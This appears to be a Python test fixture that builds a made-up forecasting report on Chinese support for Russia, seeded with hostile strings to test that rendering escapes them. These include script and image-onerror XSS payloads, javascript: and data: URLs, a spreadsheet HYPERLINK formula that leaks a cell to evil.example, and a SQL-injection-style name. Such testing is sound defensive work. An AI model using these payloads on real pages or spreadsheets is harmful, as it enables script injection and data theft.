"""A made-up run with everything that has broken reports: 20 questions, 30 pairs, nasty text."""

from __future__ import annotations

import dataclasses
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from forecast.report.content import FRAME_COLUMNS, ReportData
from forecast.report.words import probability_words
from forecast.study.models import Ladder, Pair, Question, Resolution, Study
from forecast.study.periods import Calendar

RUNGS = ("none", "rhetorical", "economic", "dual-use", "lethal", "troops")
DOMAINS = ("rhetorical", "economic", "military")
KINDS = ("binary", "count", "ordinal", "continuous")
AS_OF = date(2026, 11, 24)
FIRST = date(2012, 1, 1)
PERIODS = 64  # to the end of 2027

NASTY = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\u202egnisrever\u202c and مرحبا بالعالم",
    "rocket 🚀 and 中国 and e\u0301 against é",
    '"><img src=x onerror=alert(2)>',
    "a|b `c` *d* _e_ [f](javascript:alert(3)) {{ 7 * 7 }} $x$",
    "line one\nline two\ttab \x07bell",
    "a" * 300,
)
ADDRESSES = (
    "https://news.example/a?b=1&c=2",
    "http://mil.example/exercise",
    "javascript:alert(4)",
    "data:text/html,<script>alert(5)</script>",
    "jme/Joint Military Exercises.csv, id 47",
    "https://news.example/a b",
    "//news.example/x",
    "",
)
SUPPORTERS = (
    *("CHN", "IRN", "PRK", "BLR", "IND", "KAZ", "SYR", "CUB"),
    *("MMR", "ARE", "TUR", "SRB", "VEN", "SAU", "ZAF"),
)
INDICATORS = tuple(
    f"{name}_{number}" if number else name
    for number in range(2)
    for name in (
        "joint_exercise",
        "joint_patrol_air",
        "arms_sale",
        "leader_visit",
        "un_vote_alignment",
        "public_support",
        "trade_value",
        "trade_agreement",
        "sanctions_compliance",
        "中国 x]\"'; DROP",
    )
)
TITLES = {
    "Q17": "Does the Chinese state deliver lethal aid to Russia by the end of 2026?",
    "Q18": "Is a priced supply contract for Power of Siberia 2 signed by the end of 2026?",
    "Q19": "Is China–Russia trade in 2026 above US$ 228.1 bn (Chinese customs)?",
    "Q20": "Does a joint China–Russia bomber patrol take place in 2026?",
    "Q01": "Does China go beyond rhetoric and give Russia lethal or state-run military support "
    "over Ukraine in the first year?",
}


def calendar() -> Calendar:
    return Calendar("quarter", FIRST)


def pairs(count: int = 30) -> list[str]:
    labels = ["CHN->RUS", "RUS->CHN"]
    labels += [f"{code}->RUS" for code in SUPPORTERS[1:]] + [f"{code}->UKR" for code in SUPPORTERS]
    return labels[:count]


def question_forecasts(count: int = 20) -> list[dict[str, Any]]:
    """Return forecasts in the form of forecasts.json; the last four are open."""
    rng = np.random.default_rng(11)
    asked = ["CHN->RUS"] * 12 + ["IRN->RUS", "PRK->RUS", "BLR->RUS", "KAZ->RUS"]
    questions = []
    for number in range(1, count + 1):
        is_open = number > count - 4
        chance: float | None = float(np.round(rng.beta(0.6, 1.2), 4))
        reason, status = None, "open" if is_open else "resolved"
        if number == 6:
            status, reason, chance = "closed", None, 0.0
        if number % 9 == 0:
            status, chance = "not_modelled", None
            reason = "The event needs a signed contract with a price, which no indicator records."
        if number == count - 3:
            chance = 0.0213
        pair = "CHN->RUS" if is_open else asked[number % len(asked)]
        state = rng.dirichlet([3, 4, 4, 2, 0.4, 0.1])
        anyone = rng.dirichlet([1, 3, 4, 5, 0.6, 0.1])
        interval = None
        if chance is not None:
            interval = {"prob": 0.9, "low": chance * 0.4, "high": chance + (1 - chance) * 0.22}
        questions.append(
            {
                "id": f"Q{number:02d}",
                "pair": pair,
                "event": "max_rung >= lethal by state" if number % 3 else 'any("x" < y)',
                "opens": "2026-01-01" if is_open else "2022-02-04",
                "closes": "2026-12-31" if is_open else "2024-12-31",
                "status": status,
                "probability": chance,
                "reason": reason,
                "interval": interval,
                "mc_error": None if chance is None else 0.0031,
                "words": None if chance is None else probability_words(chance),
                "rungs": None
                if number % 5 == 0
                else {
                    "any": dict(zip(RUNGS, map(float, anyone), strict=True)),
                    "state": dict(zip(RUNGS, map(float, state), strict=True)),
                },
                "previous": None,
                "drivers": [],
            }
        )
    return questions


def study(forecasts: list[dict[str, Any]]) -> Study:
    questions, resolutions = [], []
    for each in forecasts:
        title = TITLES.get(
            each["id"], f"Does it happen, {each['id']}? {NASTY[len(each['id']) % 8]}"
        )
        questions.append(
            Question(
                id=each["id"],
                title=title,
                event=each["event"],
                pair=Pair.parse(each["pair"]),
                opens=date.fromisoformat(each["opens"]),
                closes=date.fromisoformat(each["closes"]),
                rule="As the title says.",
            )
        )
        if each["status"] == "resolved":
            known = date(2025, 1, 10)
            resolutions.append(
                Resolution(
                    question=each["id"],
                    outcome="yes" if each["id"] < "Q10" else "no",
                    resolved_on=date(2024, 12, 31),
                    known_at=known,
                )
            )
    return Study(
        id="ukraine",
        title="Will China materially back Russia over Ukraine?",
        directory=Path("ukraine"),
        calendar=calendar(),
        actors={},
        pairs=tuple(Pair.parse(label) for label in pairs()),
        domains=DOMAINS,
        ladder=Ladder(RUNGS, ("rhetorical", "troops")),
        indicators={},
        questions=tuple(questions),
        resolutions=tuple(resolutions),
        content_hash="9f2c" * 16,
    )


def ladder_frame(labels: list[str]) -> pd.DataFrame:
    """Return rung probabilities that drift up the ladder after the invasion."""
    when = calendar()
    now = when.index(AS_OF)
    steps = np.arange(8, PERIODS)
    rows: list[tuple[Any, ...]] = []
    for number, pair in enumerate(label for label in labels if label != "RUS->CHN"):
        for track in ("any", "state"):
            lift = (2.4 if track == "any" else 1.2) / (1 + 0.25 * number)
            centre = 0.8 + lift / (1 + np.exp(-(steps - 42) / 1.5)) + 0.15 * np.sin(steps / 3)
            weight = np.exp(-((np.arange(6)[None, :] - centre[:, None]) ** 2) / 0.9)
            weight /= weight.sum(axis=1, keepdims=True)
            for step, row in zip(steps, weight, strict=True):
                tense = "past" if step < now else "now" if step == now else "future"
                label = when.label(int(step))
                rows += [
                    (pair, label, track, rung, float(p), tense)
                    for rung, p in zip(RUNGS, row, strict=True)
                ]
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["ladder"]))


def path_frame(labels: list[str]) -> pd.DataFrame:
    rng = np.random.default_rng(5)
    when, steps = calendar(), np.arange(PERIODS)
    names = [when.label(int(step)) for step in steps]
    parts = []
    for pair in labels:
        for domain in DOMAINS:
            walk = np.cumsum(rng.normal(0, 0.13, PERIODS)) + 0.5 * (steps > 40)
            width = 0.35 + 0.2 * np.abs(np.sin(steps / 6)) + 0.05 * np.maximum(steps - 59, 0)
            parts.append(
                pd.DataFrame(
                    {
                        "pair": pair,
                        "domain": domain,
                        "period": names,
                        "mean": walk + 0.02,
                        "q05": walk - width,
                        "q50": walk,
                        "q95": walk + width,
                        "prior_q05": -1.6,
                        "prior_q95": 1.6,
                    }
                )
            )
    return pd.concat(parts, ignore_index=True)


def asymmetry_frame() -> pd.DataFrame:
    frame = path_frame(["CHN->RUS"]).drop(columns=["pair", "q50"])
    frame["prior_mean"] = 0.0
    frame["p_positive"] = 1 / (1 + np.exp(-2 * frame["mean"]))
    return frame[list(FRAME_COLUMNS["asymmetry"])]


def loading_frame() -> pd.DataFrame:
    rng = np.random.default_rng(7)
    rows = []
    for number, name in enumerate(INDICATORS):
        domain = DOMAINS[number % 3]
        status = "reference" if number < 3 else "prior only" if number % 7 == 6 else "estimated"
        mean = 1.0 if status == "reference" else float(rng.normal(0.9, 0.5))
        half = 0.0 if status == "reference" else 0.5 if status == "estimated" else 1.0
        rows.append(
            (
                *(name, domain, KINDS[number % 4], (1, -1, 0)[number % 3]),
                *(mean, mean - half, mean + half, 0.1, 2.0),
                *(0 if status == "prior only" else int(rng.integers(4, 60)), status),
            )
        )
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["loadings"]))


def fitted_frame() -> pd.DataFrame:
    rng = np.random.default_rng(9)
    rows = []
    for number, name in enumerate(INDICATORS):
        for group in ("CHN–RUS", "other pairs"):
            kind = KINDS[number % 4]
            observed = float(rng.gamma(0.7, 0.3)) if kind == "count" else float(rng.uniform(0, 1))
            low, high = observed * 0.6, observed * 1.3 + 0.03
            cells = int(rng.integers(30, 900))
            zero = cells - int(cells * min(observed, 0.9))
            rows.append((name, kind, group, cells, zero, observed, (low + high) / 2, low, high))
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["fitted"]))


def evidence_frame(labels: list[str], *, count: int = 430) -> pd.DataFrame:
    rng = np.random.default_rng(3)
    reasons = (
        "the same act as CHN-RUS-20220204-01 (cluster)",
        "an assessment, kept for scoring",
        "grade F6: cannot be judged",
    )
    rows = []
    for number in range(count):
        # Half of all records are about the leading dyad, as in the shipped study.
        pair = labels[number % 2] if number % 2 == 0 else labels[int(rng.integers(len(labels)))]
        day = date(2012, 1, 3) + timedelta(days=int(rng.integers(0, 5290)))
        used = number % 8 != 7
        rows.append(
            (
                f"{pair.replace('->', '-')}-{day:%Y%m%d}-{number:02d}",
                day,
                day + timedelta(days=364 if number % 11 == 0 else 0),
                pair,
                INDICATORS[number % len(INDICATORS)],
                DOMAINS[number % 3],
                "alignment" if number % 4 else "outcome:dual-use",
                str((1, 0, 2, 241.7)[number % 4]),
                f"{'ABCDE'[number % 5]}{number % 6 + 1}",
                f"Source {number % 23} {NASTY[number % 3] if number % 10 == 0 else ''}",
                ADDRESSES[int(rng.integers(len(ADDRESSES)))],
                day + timedelta(days=int(rng.integers(0, 30))),
                NASTY[int(rng.integers(len(NASTY)))]
                if number % 5 == 0
                else f"Plain note on act {number}",
                used,
                "" if used else reasons[number % 3],
            )
        )
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["evidence"]))


def diagnostic_frame() -> pd.DataFrame:
    rows = [
        ("R-hat", 1.012, 1.02, "ok", "The chains agree."),
        ("ESS of probabilities", 412, 200, "ok", "Enough independent draws for every question."),
        ("Divergences", 0, 0, "ok", "The sampler met no place that it could not follow."),
        ("BFMI", 0.71, 0.3, "ok", "The energy was explored."),
        ("ESS of scales", 138, 200, "doubtful", "The AR coefficient mixes slowly."),
    ]
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["diagnostics"]))


def judgement_frame() -> pd.DataFrame:
    rows = [
        (
            *("J01", "China's backing stays rhetorical", "max_rung >= economic by state"),
            *("2022-02-04 to 2023-02-04", 0.05, 0.15, 0.30, 0.42, "yes", NASTY[0]),
        ),
        (
            *("J02", "No lethal aid follows", "max_rung >= lethal by state"),
            *("2022-02-04 to 2023-02-04", 0.01, 0.03, 0.06, 0.021, "no", ""),
        ),
        (
            *("J03", "No formal alliance", "any(defence_pact)"),
            *("2022-02-04 to 2024-02-04", 0.01, 0.02, 0.05, None, "no", "not modelled"),
        ),
        (
            *("J12", "Russia gives China more than it gets", "x[RUS->CHN] > x[CHN->RUS]"),
            *("2022-Q1", 0.75, 0.88, 0.95, 0.81, "", NASTY[2]),
        ),
    ]
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["judgements"]))


def face_frame() -> pd.DataFrame:
    rows = [
        (
            "Military alignment toward Russia, end of 2024",
            "PRK 1.9, IRN 1.2, BLR 1.1, CHN 0.6",
            "The three suppliers of arms stand above China.",
        ),
        (
            "Hosted exercises RUS→CHN against CHN→RUS, P(> 0)",
            0.87,
            "Russia came to China more often than China to Russia.",
        ),
    ]
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["face_validity"]))


SINCE = "2026-08-31-0c9d"


def change_frame(forecasts: list[dict[str, Any]]) -> pd.DataFrame:
    """Return a change of every question with a probability; some parts and one start are unknown.

    Corrections move nothing, so that no column tells of them.
    """
    rows = []
    for number, each in enumerate(forecasts):
        after = each["probability"]
        if after is None:
            continue
        before = 0.9 * after + 0.03
        time, withdrawn = -0.01, 0.004
        evidence = (after - before - time - withdrawn) / 2
        row = [each["id"], before, time, 0.0, withdrawn, evidence, evidence, after]
        if number == 1:  # The second step did not pass the gate: the next one tells its part too.
            row[4], row[5] = np.nan, evidence + withdrawn
        if number == 2:  # It was not asked before.
            row[1] = row[2] = np.nan
        rows.append(tuple(row))
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["changes"]))


def note_frame(**more: str) -> pd.DataFrame:
    """Return what is said of the change."""
    notes = {"since": SINCE, "path": "refitted", "why": ""} | more
    return pd.DataFrame(list(notes.items()), columns=list(FRAME_COLUMNS["change_notes"]))


def change_record_frame(evidence: pd.DataFrame, *, count: int = 12) -> pd.DataFrame:
    """Return records that came in, were corrected or withdrawn, hostile ones among them."""
    chosen = evidence.head(count).reset_index(drop=True)
    causes = ("evidence", "revisions", "retractions")
    chosen = chosen.assign(cause=[causes[number % 3] for number in range(len(chosen))])
    for number, text in enumerate(NASTY[: len(chosen)]):
        chosen.loc[number, "source_name"] = text
        chosen.loc[number, "source_url"] = ADDRESSES[number % len(ADDRESSES)]
    return chosen[list(FRAME_COLUMNS["change_records"])]


def driver_frame(forecasts: list[dict[str, Any]], evidence: pd.DataFrame) -> pd.DataFrame:
    """Return weights of records for the open questions.

    Of each question one record decides it, one is not trusted, one is not in the evidence and one
    is of no weight.
    """
    rng = np.random.default_rng(13)
    rows: list[tuple[Any, ...]] = []
    names = evidence["record"].tolist()
    for each in forecasts:
        if each["status"] != "open" or each["probability"] is None:
            continue
        question, now = each["id"], each["probability"]
        rows.append((question, names[0], np.inf, np.nan, 0.0, -np.inf, "reweighted"))
        rows.append((question, names[1], 4.0, 2.5, now / 3, 0.93, "not trusted"))
        for number, name in enumerate(names[2:-1][:14]):
            bits = float(rng.normal(0, 1.5))
            rows.append((question, name, bits, 0.1, now * 0.8, 0.2 + number / 100, "reweighted"))
        rows.append((question, "nowhere-" + NASTY[0], -0.7, np.nan, now, np.nan, "refitted"))
        rows.append((question, names[-1], 0.0, 0.0, now, -np.inf, "reweighted"))
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["drivers"]))


def tripwire_frame(forecasts: list[dict[str, Any]]) -> pd.DataFrame:
    """Return observations that would move the open questions; the third is not to be trusted."""
    rows = []
    for each in forecasts:
        if each["status"] != "open" or each["probability"] is None:
            continue
        now = each["probability"]
        for number, name in enumerate(INDICATORS[:12]):
            after = min(1.0, now + 0.9 / (number + 1))
            seen = "silence" if number % 4 == 1 else f"two {name}"
            rows.append(
                (
                    *(each["id"], name, "CHN->RUS" if number % 2 else "RUS->CHN", "2026-Q4", seen),
                    *(1.0000001 if number == 0 else 0.2 / (number + 1), after),
                    *(after - now, 1.5, "0.2, 0.5" if number < 2 else "", number != 2),
                )
            )
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["tripwires"]))


def collection_frame(forecasts: list[dict[str, Any]], *, priced: bool = True) -> pd.DataFrame:
    """Return what is worth watching for the open questions; one thing has no cost."""
    rows = []
    for each in forecasts:
        if each["status"] != "open" or each["probability"] is None:
            continue
        for number, name in enumerate(INDICATORS[:12]):
            bits = 0.2 / (number + 1)
            cost = float(number + 1) if priced and number != 1 else np.nan
            domain = "military/economic" if number == 0 else DOMAINS[number % 3]
            rows.append(
                (
                    *(each["id"], name, "CHN->RUS", domain, bits, 0.01, bits / 0.9),
                    *(cost, bits / cost, number + 1, ""),
                )
            )
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["collection"]))


def watched_frame(forecasts: list[dict[str, Any]]) -> pd.DataFrame:
    """Return which period is watched for each open question."""
    rows = [
        (each["id"], "2026-Q4", "2026-11-25", each["probability"])
        for each in forecasts
        if each["status"] == "open" and each["probability"] is not None
    ]
    return pd.DataFrame(rows, columns=list(FRAME_COLUMNS["watched"]))


def report_data(*, questions: int = 20, pair_count: int = 30, records: int = 430) -> ReportData:
    """Return a realistic run of the default study as of November 2026."""
    labels, forecasts = pairs(pair_count), question_forecasts(questions)
    evidence = evidence_frame(labels, count=records)
    return ReportData(
        study=study(forecasts),
        manifest={
            "format": "manifest/1",
            "run": "2026-11-24-nuts-1f3a",
            "engine": "nuts",
            "seed": 20261124,
            "chains": 2,
            "draws": 1000,
            "vintage": {"hash": "ab12" * 16, "records": records},
            "priors": {"signals-2026": "cd34" * 16, "witness-2026": "ef56" * 16},
            "versions": {"pymc": "6.4.1", "nutpie": "0.16.11", "numpy": "2.5.5"},
        },
        forecasts={
            "format": "forecast/1",
            "study": "ukraine",
            "run": "2026-11-24-nuts-1f3a",
            "as_of": AS_OF.isoformat(),
            "engine": "nuts",
            "status": "converged",
            "diagnostics": {},
            "questions": forecasts,
        },
        ladder=ladder_frame(labels),
        paths=path_frame(labels),
        asymmetry=asymmetry_frame(),
        loadings=loading_frame(),
        fitted=fitted_frame(),
        evidence=evidence,
        diagnostics=diagnostic_frame(),
        judgements=judgement_frame(),
        face_validity=face_frame(),
        changes=change_frame(forecasts),
        change_notes=note_frame(),
        change_records=change_record_frame(evidence),
        drivers=driver_frame(forecasts, evidence),
        tripwires=tripwire_frame(forecasts),
        collection=collection_frame(forecasts),
        watched=watched_frame(forecasts),
    )


def without(data: ReportData, *names: str) -> ReportData:
    """Return the data with some tables emptied; all of them by default."""
    names = names or tuple(FRAME_COLUMNS)
    empty = {name: pd.DataFrame(columns=list(FRAME_COLUMNS[name])) for name in names}
    return dataclasses.replace(data, **empty)
